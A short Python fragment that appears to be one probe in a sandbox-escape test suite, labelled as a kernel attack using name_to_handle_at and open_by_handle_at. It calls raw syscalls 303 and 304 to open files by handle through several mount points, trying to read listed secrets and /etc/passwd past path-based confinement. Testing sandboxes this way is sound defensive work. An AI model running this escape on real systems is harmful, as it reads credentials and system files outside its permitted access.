# category: kernel
# attack: name_to_handle_at and open_by_handle_at
# kind: stdin
import ctypes, struct
def handle(path, mount):
    buffer = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128), 136)
    number = ctypes.c_int()
    syscall(303, -100, path.encode(), buffer, ctypes.byref(number), 0)
    return os.read(syscall(304, os.open(mount, os.O_RDONLY), buffer, 0), 200)
for path in [*INFO["secrets"], "/etc/passwd"]:
    for mount in ("/", "/usr", "/tmp", os.path.dirname(os.__file__)):
        attempt(f"{path} by handle", handle, path, mount)
